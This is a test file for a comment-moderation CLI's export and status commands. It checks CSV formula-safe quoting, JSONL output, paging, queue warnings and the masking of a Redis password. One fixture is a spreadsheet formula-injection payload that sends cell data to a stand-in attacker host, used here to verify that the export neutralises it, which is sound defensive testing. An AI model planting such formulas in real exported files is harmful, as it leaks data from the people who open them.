import fs from 'node:fs';
import path from 'node:path';
import { Queue } from 'bullmq';
import IORedis from 'ioredis';
import { exportCommand } from '../../../src/cli/export.command';
import { statusCommand } from '../../../src/cli/status.command';
import { parseDelimited } from '../../../src/eval/csv';
import { QUEUE_NAMES } from '../../../src/queue/names';
import { applyModeratorAction } from '../../../src/store/moderation.repository';
import { openTestDatabase, type TestDatabase } from '../../helpers/databases';
import { deletePrefix, TEST_REDIS_URL, uniquePrefix } from '../../helpers/redis';
import { commandEnv, runCommand, seedDecided, tempDir } from './helpers';

describe('vigie export', () => {
  let t: TestDatabase;
  let ids: string[];
  let dir: string;
  const env = () => commandEnv(uniquePrefix('export'));
  const hostile = '=HYPERLINK("http://evil.example/?x="&A1,"clic")';
  const multiline = 'Première ligne, avec "guillemets"\net une seconde; fin.';

  beforeAll(async () => {
    t = await openTestDatabase('postgres');
    ids = await seedDecided(t.db, ['Merci pour cet article.', hostile, multiline, '@quelqu_un quel connard', '-1 pour ce papier', '+33 6 12 34 56 78']);
    await seedDecided(t.db, ['Autre site, autre article.'], { site: 'autre-site', article: 'https://autre.example/a' });
    await applyModeratorAction(t.db, { commentIds: [ids[3]], action: 'reject', reason: 'insult', moderator: 'bob' });
    dir = tempDir();
  }, 60_000);

  afterAll(async () => {
    await t?.drop();
  });

  it('writes CSV with quoting, formula-safe cells, scores, decisions and moderator actions', async () => {
    const out = path.join(dir, 'export.csv');
    const res = await runCommand(exportCommand, ['--site', 'le-journal', '--out', out], { db: t.db, env: env() });
    expect(res.error).toBeUndefined();
    expect(res.stderr).toMatch(/exported 6 comments to .*export\.csv \(csv;/);
    expect(fs.existsSync(`${out}.partial`)).toBe(false);
    const raw = fs.readFileSync(out, 'utf8');
    const [header, ...rows] = parseDelimited(raw);
    expect(rows).toHaveLength(6);
    const col = (name: string) => header.indexOf(name);
    const byId = new Map(rows.map((r) => [r[col('comment_id')], r]));
    expect(byId.get(ids[1])?.[col('text')]).toBe(`'${hostile}`);
    expect(byId.get(ids[2])?.[col('text')]).toBe(multiline);
    expect(byId.get(ids[4])?.[col('text')]).toBe("'-1 pour ce papier");
    expect(byId.get(ids[5])?.[col('text')]).toBe("'+33 6 12 34 56 78");
    const moderated = byId.get(ids[3])!;
    expect(moderated[col('text')]).toBe("'@quelqu_un quel connard");
    expect(moderated[col('decision')]).toBe('reject');
    expect(moderated[col('decided_by')]).toBe('moderator:bob');
    expect(moderated[col('moderator_actions')]).toMatch(/moderator:bob reject/);
    expect(moderated[col('decision_history')]).toMatch(/machine review; .* moderator:bob reject \(current\)/);
    expect(Number(moderated[col('score_insult')])).toBeGreaterThan(0.5);
    // No raw cell starts with a formula character.
    expect(raw).not.toMatch(/(^|,)[=+\-@]/m);
  });

  it('streams JSON lines to stdout with the same content', async () => {
    const res = await runCommand(exportCommand, ['--format', 'jsonl'], { db: t.db, env: env() });
    expect(res.error).toBeUndefined();
    const records = res.stdout.trim().split('\n').map((l) => JSON.parse(l));
    expect(records).toHaveLength(7);
    const moderated = records.find((r) => r.id === ids[3]);
    expect(moderated).toMatchObject({ siteId: 'le-journal', decision: 'reject', decidedBy: 'moderator:bob' });
    expect(moderated.moderatorActions).toEqual([
      expect.objectContaining({ actor: 'moderator:bob', action: 'reject', after: expect.objectContaining({ decision: 'reject' }) }),
    ]);
    expect(moderated.decisions.map((d: { actor: string }) => d.actor)).toEqual(['machine', 'moderator:bob']);
    expect(records.find((r) => r.id === ids[1]).text).toBe(hostile);
  });

  it('pages through more comments than one page holds, in a stable order', async () => {
    const res = await runCommand(exportCommand, ['--status', 'scored'], { db: t.db, env: env() });
    const all = res.stdout.trim().split('\n').map((l) => JSON.parse(l).id);
    const { exportComments } = await import('../../../src/operations/export-comments');
    const { PassThrough } = await import('node:stream');
    const sink = new PassThrough();
    let text = '';
    sink.on('data', (c) => (text += c));
    const summary = await exportComments({ db: t.db, filter: { status: 'scored' }, format: 'jsonl', output: sink, pageSize: 2 });
    expect(summary.exported).toBe(all.length);
    expect(text.trim().split('\n').map((l) => JSON.parse(l).id)).toEqual(all);
  });

  it('a bad filter fails with exit code 2', async () => {
    const res = await runCommand(exportCommand, ['--until', 'yesterday'], { db: t.db, env: env() });
    expect(res.exitCode).toBe(2);
    expect(res.error?.message).toMatch(/invalid --until "yesterday"/);
  });
});

describe('vigie status', () => {
  let t: TestDatabase;
  const prefix = uniquePrefix('status');

  beforeAll(async () => {
    t = await openTestDatabase('pglite');
    await seedDecided(t.db, ['Merci.', 'Quel connard.']);
  }, 60_000);

  afterAll(async () => {
    await deletePrefix(prefix);
    await t?.drop();
  });

  it('--json reports health, queue depths, workers, throughput and versions', async () => {
    const res = await runCommand(statusCommand, ['--json'], { db: t.db, env: commandEnv(prefix) });
    expect(res.error).toBeUndefined();
    const report = JSON.parse(res.stdout);
    expect(report).toMatchObject({
      ok: true,
      warnings: [],
      redis: { ok: true, url: 'redis://127.0.0.1:6379', latencyMs: expect.any(Number) },
      database: { ok: true, kind: 'pglite', comments: { scored: 2 } },
      queues: {
        score: { counts: expect.objectContaining({ waiting: 0, active: 0, prioritized: 0, failed: 0 }), workers: 0, paused: false },
        notify: { counts: expect.objectContaining({ waiting: 0 }), workers: 0 },
      },
      throughput: { windowMinutes: 15, averagePerMinute: expect.any(Number) },
    });
    expect(report.throughput.perMinute).toHaveLength(15);
    expect(report.throughput.perMinute.reduce((s: number, m: { decisions: number }) => s + m.decisions, 0)).toBe(2);
    expect(report.versions).toEqual([expect.objectContaining({ policyVersion: expect.any(String), decisions: 2 })]);
  });

  it('reads as a table in a terminal', async () => {
    const res = await runCommand(statusCommand, [], { db: t.db, env: commandEnv(prefix) });
    expect(res.stdout).toMatch(/redis\s+ok/);
    expect(res.stdout).toMatch(/score\s+waiting 0/);
    expect(res.stdout).toContain('Model and policy versions');
  });

  it('warns and exits 1 when score jobs wait with no worker connected', async () => {
    const connection = new IORedis(TEST_REDIS_URL, { maxRetriesPerRequest: null });
    const queue = new Queue(QUEUE_NAMES.score, { connection, prefix });
    try {
      await queue.add('score', { commentId: 'c1', textHash: 'a'.repeat(64) }, { priority: 1 });
      await queue.add('score', { commentId: 'c2', textHash: 'b'.repeat(64) });
      const res = await runCommand(statusCommand, ['--json'], { db: t.db, env: commandEnv(prefix) });
      expect(res.exitCode).toBe(1);
      const report = JSON.parse(res.stdout);
      expect(report.ok).toBe(true);
      expect(report.warnings).toEqual(['2 score jobs waiting and no score worker connected (start `vigie serve` or `vigie worker`)']);
      const table = await runCommand(statusCommand, [], { db: t.db, env: commandEnv(prefix) });
      expect(table.stdout).toMatch(/: NEEDS ATTENTION\n {2}warning {3}2 score jobs waiting and no score worker connected/);
    } finally {
      await queue.obliterate({ force: true });
      await queue.close();
      await connection.quit();
    }
  });

  it('reports an unreachable Redis with its URL and exits 3', async () => {
    const res = await runCommand(statusCommand, ['--json'], { db: t.db, env: commandEnv(prefix, { REDIS_URL: 'redis://:s3cret@127.0.0.1:1' }) });
    expect(res.exitCode).toBe(3);
    const report = JSON.parse(res.stdout);
    expect(report.redis).toMatchObject({ ok: false, url: 'redis://:***@127.0.0.1:1' });
    expect(report.redis.error).toMatch(/Redis is not reachable/);
    expect(report.database.ok).toBe(true);
    expect(res.error?.message).toBe('unavailable: Redis (redis://:***@127.0.0.1:1)');
    expect(res.stdout).not.toContain('s3cret');
  });
});
